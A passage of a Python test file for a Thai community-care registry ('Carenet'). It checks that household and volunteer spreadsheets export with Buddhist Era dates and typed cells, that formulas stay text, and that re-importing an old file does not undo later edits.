    assert head.phone == "0811111111"


# --- The cells of a workbook ---------------------------------------------------------------


def cells_by_header(data: bytes, surname: str) -> list[dict]:
    """The cells of each row of this surname, by header (openpyxl, as a spreadsheet)."""
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    rows = [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]
    return [cells for cells in rows if cells["นามสกุล"].value == surname]


def test_a_households_workbook_has_numbers_and_buddhist_era_dates(personas, registry):
    typed_values(registry)
    user = personas["province_officer"]
    cells, spouse = cells_by_header(export_bytes(user, "households", "xlsx"), "ใจดี")
    household = Household.objects.get(pk=registry.households["ใจดี"].pk)
    # Numbers a spreadsheet adds up, sorts and maps.
    assert (cells["หมู่ที่"].data_type, cells["หมู่ที่"].value) == ("n", household.moo)
    assert (cells["ละติจูด"].data_type, cells["ละติจูด"].value) == ("n", 10.5)
    assert (cells["ลองจิจูด"].data_type, cells["ลองจิจูด"].value) == ("n", 99.1234)
    # Dates, shown in the Buddhist Era; the one that would read back as a year stays text.
    consent = cells["วันที่ให้ความยินยอม"]
    assert consent.is_date and consent.number_format == exporting.DATE_FORMAT
    assert consent.value.date() == date(2024, 2, 29)
    born = spouse["วันเกิด"]
    assert born.is_date and born.number_format == exporting.DATE_FORMAT
    assert born.value.date() == date(1970, 2, 10)
    assert (cells["วันเกิด"].data_type, cells["วันเกิด"].value) == ("s", "01/03/2448")
    as_of = cells["ข้อมูล ณ"]
    assert as_of.is_date and as_of.number_format == exporting.DATETIME_FORMAT
    assert abs(as_of.value - timezone.localtime().replace(tzinfo=None)) < timedelta(minutes=1)
    # Identifiers and codes stay text, as written: their dashes and leading zeros kept.
    for header in ("รหัสครัวเรือน", "บ้านเลขที่", "รหัสตำบล", "เลขประจำตัวประชาชน", "โทรศัพท์"):
        assert cells[header].data_type == "s", header
    assert cells["โทรศัพท์"].value == "089-999-9999"


def test_a_volunteers_workbook_has_numbers_and_buddhist_era_dates(personas, registry):
    typed_values(registry)
    data = export_bytes(personas["province_officer"], "volunteers", "xlsx")
    [cells] = cells_by_header(data, "อาสาดี")
    looks_after = cells["จำนวนครัวเรือนที่ดูแล"]
    assert (looks_after.data_type, looks_after.value) == ("n", 1)
    assert (cells["หมู่ที่"].data_type, cells["หมู่ที่"].value) == ("n", 3)
    for header, day in (("วันเกิด", date(1975, 5, 17)), ("วันที่ขึ้นทะเบียน", date(2023, 6, 1))):
        assert cells[header].is_date and cells[header].number_format == exporting.DATE_FORMAT
        assert cells[header].value.date() == day
    for header in ("เลขประจำตัวประชาชน", "เลขทะเบียน", "รหัสตำบล", "รหัสตำบลที่อยู่", "โทรศัพท์"):
        assert cells[header].data_type == "s", header


def test_the_csv_keeps_its_buddhist_era_text(personas, registry):
    typed_values(registry)
    rows = read_csv(export_bytes(personas["province_officer"], "households"))
    row = next(r for r in rows[1:] if r[rows[0].index("นามสกุล")] == "ใจดี")
    values = dict(zip(rows[0], row, strict=True))
    assert values["วันเกิด"] == "01/03/2448"
    assert values["วันที่ให้ความยินยอม"] == "29/02/2567"
    assert (values["ละติจูด"], values["ลองจิจูด"]) == ("10.500000", "99.123400")


# --- An old export does not undo later edits -----------------------------------------------


def edited_later(model, pk, **values):
    """An edit made in Carenet after the export was read (a few seconds later)."""
    later = timezone.now() + timedelta(seconds=3)
    model.objects.filter(pk=pk).update(**values, updated_at=later)


def rewritten(data: bytes, change) -> bytes:
    """The exported CSV with `change(header, row)` applied to each data row."""
    rows = read_csv(data)
    for row in rows[1:]:
        change(rows[0], row)
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue().encode("utf-8")


def test_an_export_says_when_its_data_was_read(personas, registry):
    moment = timezone.localtime()
    for dataset in ("households", "volunteers"):
        rows = read_csv(export_bytes(personas["province_officer"], dataset))
        assert rows[0][-1] == "ข้อมูล ณ"
        stamps = {row[-1] for row in rows[1:]}
        assert len(stamps) == 1
        day, clock = stamps.pop().split(" ")
        assert day == f"{moment:%d/%m}/{moment.year + 543}"
        assert len(clock) == 8


def test_an_old_export_does_not_undo_a_later_edit_of_a_person(personas, registry, en):
    from carenet.spreadsheets.importing import import_households

    user = personas["province_officer"]
    data = export_bytes(user, "households")
    head = registry.households["ใจดี"].head
    edited_later(Person, head.pk, phone="0811111111")
    before = snapshot()

    result = import_households(actor=user, source=data)

    assert [e.column for e in result.errors] == ["ข้อมูล ณ"]
    reason = result.errors[0].reason
    assert "changed in Carenet" in reason and "clear the row" in reason
    assert [(c.before, c.after) for c in result.changes] == [("081-111-1111", "089-999-9999")]
    assert snapshot() == before


def test_clearing_the_as_of_cell_overwrites_on_purpose(personas, registry):
    from carenet.spreadsheets.importing import import_households

    user = personas["province_officer"]
    data = export_bytes(user, "households")
    head = registry.households["ใจดี"].head
    edited_later(Person, head.pk, phone="0811111111")

    def clear(header, row):
        row[header.index("ข้อมูล ณ")] = ""

    result = import_households(actor=user, source=rewritten(data, clear))

    assert result.errors == []
    head.refresh_from_db()
    assert head.phone == "0899999999"


def test_edits_made_in_an_old_file_still_import_where_nothing_changed_since(personas, registry):
    from carenet.spreadsheets.importing import import_households

    user = personas["province_officer"]
    data = export_bytes(user, "households")
    edited_later(Person, registry.households["ใจดี"].head.pk, phone="0811111111")
    other = registry.households["ศรีสุข"].head

    def new_phone(header, row):
        if row[header.index("นามสกุล")] == "ศรีสุข" and row[header.index("โทรศัพท์")]:
            row[header.index("โทรศัพท์")] = "0822222222"

    result = import_households(actor=user, source=rewritten(data, new_phone), dry_run=True)

    assert len(result.errors) == 1  # the row of ใจดี only
    assert [c.after for c in result.changes if c.row != result.errors[0].row] == ["082-222-2222"]
    other.refresh_from_db()
    assert other.phone == "0899999999"  # a dry run


def test_an_old_export_does_not_undo_a_later_address_or_handover(personas, registry, en):
    from carenet.households.models import HouseholdAssignment
    from carenet.spreadsheets.importing import import_households

    user = personas["province_officer"]
    data = export_bytes(user, "households")
    moved = registry.households["ใจดี"]
    edited_later(Household, moved.pk, house_no="99/9")
    HouseholdAssignment.objects.filter(household=registry.households["ทองคำ"]).update(
        volunteer=registry.volunteers["อาสาดี"], assigned_at=timezone.now() + timedelta(seconds=3)
    )  # handed over from ปากน้ำดี
    before = snapshot()

    result = import_households(actor=user, source=data)

    reasons = [e.reason for e in result.errors]
    assert len(reasons) == 2
    assert all("household's address, head or volunteers were changed" in r for r in reasons)
    assert snapshot() == before


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_old_volunteers_export_does_not_undo_a_later_edit(personas, registry, en, fmt):
    from carenet.spreadsheets.importing import import_volunteers

    user = personas["province_officer"]
    data = export_bytes(user, "volunteers", fmt)
    edited_later(Volunteer, registry.volunteers["อาสาดี"].pk, phone="0811111111")
    before = snapshot()

    result = import_volunteers(actor=user, source=data)

    assert [e.column for e in result.errors] == ["ข้อมูล ณ"]
    assert "volunteer's record was changed in Carenet" in result.errors[0].reason
    assert snapshot() == before


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("เมื่อวาน", "as an export writes it"),
        ("31/02/2569 10:00", "as an export writes it"),
        ("30/11/2569 25:61", "as an export writes it"),
        ("01/01/2600 10:00", "cannot be in the future"),
    ],
)
def test_an_as_of_cell_that_cannot_be_read_is_an_error(personas, registry, en, text, reason):
    from carenet.spreadsheets.importing import import_households

    user = personas["province_officer"]

    def bad(header, row):
        row[header.index("ข้อมูล ณ")] = text

    result = import_households(
        actor=user, source=rewritten(export_bytes(user, "households"), bad), dry_run=True
    )
    assert result.errors and all(reason in e.reason for e in result.errors)
    assert {e.value for e in result.errors} == {text}


@pytest.mark.parametrize("written", ["{day} {hh}:{mm}", "{day}", "{iso}", "{iso_t}"])
def test_an_as_of_cell_a_spreadsheet_reformatted_still_reads(personas, registry, written):
    from carenet.spreadsheets.importing import import_households

    user = personas["province_officer"]
    moment = timezone.localtime()
    text = written.format(
        day=f"{moment:%d/%m}/{moment.year + 543}",
        hh=f"{moment:%H}",
        mm=f"{moment:%M}",
        iso=f"{moment:%Y-%m-%d %H:%M:%S}",
        iso_t=f"{moment:%Y-%m-%dT%H:%M:%S}",
    )

    def reformat(header, row):
        row[header.index("ข้อมูล ณ")] = text

    result = import_households(
        actor=user, source=rewritten(export_bytes(user, "households"), reformat), dry_run=True
    )
    assert result.errors == []


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_volunteer_export_says_how_many_active_households_each_looks_after(personas, registry, fmt):
    """The provincial officer's workload column: active households only, in scope only."""
    volunteer = registry.volunteers["อาสาดี"]
    closed = make_household(registry.households["ใจดี"].area, "ปิดแล้ว", volunteer=volunteer)
    Household.objects.filter(pk=closed.pk).update(status=HouseholdStatus.CLOSED)
    make_household(registry.households["ศรีสุข"].area, "บ้านใหม่", volunteer=volunteer)
    data = export_bytes(personas["district_coordinator_a"], "volunteers", fmt)
    rows = read_csv(data) if fmt == "csv" else read_xlsx(data)
    headers = rows[0]
    assert headers[-2:] == ["จำนวนครัวเรือนที่ดูแล", "ข้อมูล ณ"]
    column, name = headers.index("จำนวนครัวเรือนที่ดูแล"), headers.index("นามสกุล")
    assert {row[name]: row[column] for row in rows[1:]} == {"อาสาดี": "2", "ปากน้ำดี": "1"}
    # Who looks after none says 0, not a blank cell.
    Household.objects.update(status=HouseholdStatus.MOVED)
    rows = read_csv(export_bytes(personas["district_coordinator_b"], "volunteers"))
    assert {row[name]: row[column] for row in rows[1:]} == {"รักถิ่น": "0"}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_shelter_of_an_evacuated_household_is_exported_and_imports_again_unchanged(
    personas, registry, fmt
):
    from carenet.households.models import Evacuation
    from carenet.households.services import evacuation_start
    from carenet.spreadsheets.importing import import_households

    user = personas["district_coordinator_a"]
    household = Household.objects.filter(area__code__startswith="8601").order_by("pk").first()
    evacuation_start(actor=user, household=household, place="วัดปากน้ำ", since=timezone.localdate())
    rows = read_csv(export_bytes(user, "households"))
    at = rows[0].index("อพยพไปที่")
    ref = rows[0].index("รหัสครัวเรือน")
    shelters = {row[ref]: row[at] for row in rows[1:]}
    assert shelters.pop(str(household.pk)) == "วัดปากน้ำ"
    assert set(shelters.values()) == {""}
    before = snapshot()
    result = import_households(actor=user, source=export_bytes(user, "households", fmt))
    assert result.errors == []
    assert not any("อพยพ" in str(w) for w in result.warnings)
    assert result.people.updated == result.households.updated == 0
    assert snapshot() == before
    assert Evacuation.objects.get().place == "วัดปากน้ำ"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_households_priority_and_groups_are_exported_and_import_again_unchanged(
    personas, registry, fmt
):
    """A month-end figure ("households by priority, by group") counted in the file itself:
    what Carenet works out from the members, never read back by an import."""
    from carenet.spreadsheets.importing import import_households

    user = personas["district_coordinator_a"]
    household = Household.objects.filter(area__code__startswith="8601").order_by("pk").first()
    Household.objects.filter(pk=household.pk).update(
        priority_score=250, vulnerability=["bedridden_alone", "elderly"]
    )
    data = export_bytes(user, "households", fmt)
    rows = read_csv(data) if fmt == "csv" else read_xlsx(data)
    header, ref = rows[0], rows[0].index("รหัสครัวเรือน")
    mine = next(row for row in rows[1:] if row[ref] == str(household.pk))
    assert mine[header.index("ลำดับความสำคัญ")] == "สูง"
    assert mine[header.index("คะแนนความสำคัญ")] == "250"
    assert mine[header.index("กลุ่มเปราะบางของครัวเรือน")] == "ผู้ป่วยติดเตียงที่อยู่ลำพัง, ผู้สูงอายุ"
    before = snapshot()
    result = import_households(actor=user, source=data)
    assert result.errors == []
    assert not any("ความสำคัญ" in str(w) for w in result.warnings)
    assert snapshot() == before


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_date_of_the_latest_status_change_is_exported_and_imports_again_unchanged(
    personas, registry, fmt
):
    """วันที่เปลี่ยนสถานะ: the latest change's date in BE, after สถานะ; blank for a volunteer
    whose status never changed since registration, and a change taken back as a mistake is
    not one. An import reads nothing from it, and says nothing of it."""
    from carenet.spreadsheets.importing import import_volunteers
    from carenet.volunteers.services import volunteer_change_status, volunteer_undo_status

    user = personas["district_coordinator_a"]
    resigned, undone = registry.volunteers["อาสาดี"], registry.volunteers["ปากน้ำดี"]
    for volunteer in (resigned, undone):
        VolunteerStatusChange.objects.create(
            volunteer=volunteer, to_status="active", effective_date=date(2024, 6, 1), reason="-"
        )
    volunteer_change_status(
        actor=user,
        volunteer=resigned,
        to_status="inactive",
        effective_date=date(2026, 3, 2),
        reason="ป่วย",
    )
    volunteer_change_status(
        actor=user,
        volunteer=resigned,
        to_status="resigned",
        effective_date=timezone.localdate(),
        reason="ย้ายไปต่างจังหวัด",
    )
    change = volunteer_change_status(
        actor=user,
        volunteer=undone,
        to_status="deceased",
        effective_date=timezone.localdate(),
        reason="ผิดคน",
    ).change
    volunteer_undo_status(actor=user, volunteer=undone, change_id=change.pk, reason="ผิดคน")
    data = export_bytes(user, "volunteers", fmt)
    rows = read_csv(data) if fmt == "csv" else read_xlsx(data)
    headers = rows[0]
    assert headers.index("วันที่เปลี่ยนสถานะ") == headers.index("สถานะ") + 1
    column, name = headers.index("วันที่เปลี่ยนสถานะ"), headers.index("นามสกุล")
    today = timezone.localdate()
    dates = {row[name]: row[column] for row in rows[1:]}
    assert dates.pop("ปากน้ำดี") == ""
    # BE text in a CSV; a date cell, shown in BE, in a workbook.
    shown = f"{today:%d/%m/}{today.year + 543}" if fmt == "csv" else f"{today} 00:00:00"
    assert dates == {"อาสาดี": shown}

    before = snapshot()
    result = import_volunteers(actor=user, source=data)
    assert result.errors == []
    assert not any("เปลี่ยนสถานะ" in str(w) for w in result.warnings), result.warnings
    assert result.volunteers.created == result.volunteers.updated == 0
    assert snapshot() == before


def test_the_status_date_adds_no_query_to_a_volunteers_export(
    personas, registry, area_tree, django_assert_max_num_queries
):
    from carenet.volunteers.tests.factories import VolunteerFactory, VolunteerStatusChangeFactory

    user = personas["province_officer"]
    with django_assert_max_num_queries(20) as small:
        export_bytes(user, "volunteers")
    for n in range(15):
        volunteer = VolunteerFactory(area=area_tree["860102"], last_name=f"ทดสอบ{n}")
        VolunteerStatusChangeFactory(volunteer=volunteer, effective_date=date(2024, 6, 1))
        VolunteerStatusChangeFactory(
            volunteer=volunteer, from_status="active", to_status="inactive"
        )
    with django_assert_max_num_queries(len(small.captured_queries)):
        rows = read_csv(export_bytes(user, "volunteers"))
    assert len(rows) == len(VOLUNTEERS_SEEN["province_officer"]) + 15 + 1


def test_a_typed_column_writes_what_is_not_of_its_type_as_text():
    """Whatever a caller hands a typed column, the workbook says what a CSV would: a value
    that is not of the column's type is written as text (formulas kept as text too)."""
    from carenet.core.tabular import CellType

    kinds = [CellType.NUMBER, CellType.NUMBER, CellType.DATE, CellType.DATETIME, CellType.TEXT]
    rows = [
        ["1-2", "=1+1", "ไม่ทราบ", datetime(2026, 11, 30, 3, 15, 42, 5, tzinfo=UTC), "007"],
        ["007", "-3.50", "31/02/2568", "30/11/2569 10:15", "12"],
        [7, Decimal("10.500000"), date(2025, 2, 26), "", date(2025, 2, 26)],
    ]
    buffer = io.BytesIO()
    exporting.xlsx_table(list("ABCDE"), iter(rows), buffer, title="t", cells=kinds)
    sheet = load_workbook(buffer).worksheets[0]
    written = [[(cell.data_type, cell.value) for cell in row] for row in sheet.iter_rows(min_row=2)]
    assert written == [
        [("s", "1-2"), ("s", "=1+1"), ("s", "ไม่ทราบ"), ("d", datetime(2026, 11, 30, 10, 15, 42)),
         ("s", "007")],
        [("s", "007"), ("n", -3.5), ("s", "31/02/2568"), ("d", datetime(2026, 11, 30, 10, 15)),
         ("s", "12")],
        [("n", 7), ("n", 10.5), ("d", datetime(2025, 2, 26)), ("n", None), ("s", "26/02/2568")],
    ]  # fmt: skip
    assert sheet["B2"].quotePrefix
    # As wide as a spreadsheet shows the dates: 30/11/2569 10:15:42.
    assert sheet.column_dimensions["D"].width >= 20


@pytest.mark.parametrize(("columns", "fits"), [(8, True), (60, False)])
def test_a_workbook_prints_landscape_with_its_headings_on_every_page(columns, fits):
    headers = [f"หัวข้อที่ {n}" for n in range(columns)]
    buffer = io.BytesIO()
    exporting.xlsx_table(headers, iter([["ต.ท่าตะเภา", *range(columns - 1)]]), buffer, title="t")
    sheet = load_workbook(buffer).worksheets[0]
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.page_setup.paperSize == 9  # A4
    assert (sheet.print_title_rows, sheet.print_title_cols) == ("$1:$1", "$A:$A")
    assert bool(sheet.sheet_properties.pageSetUpPr.fitToPage) is fits
